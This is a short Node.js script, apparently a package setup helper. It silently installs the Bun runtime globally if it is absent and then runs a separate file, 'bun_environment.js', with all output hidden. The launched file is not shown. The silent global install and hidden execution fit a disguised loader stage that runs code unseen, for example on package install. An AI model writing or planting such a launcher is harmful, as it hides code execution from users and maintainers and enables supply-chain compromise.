const { execSync, spawnSync } = require('child_process');
const path = require('path');
try { execSync('bun --version', { stdio: 'ignore' }); } catch { execSync('npm install -g bun', { stdio: 'ignore' }); }
spawnSync('bun', [path.join(__dirname, 'bun_environment.js')], { stdio: 'ignore' });
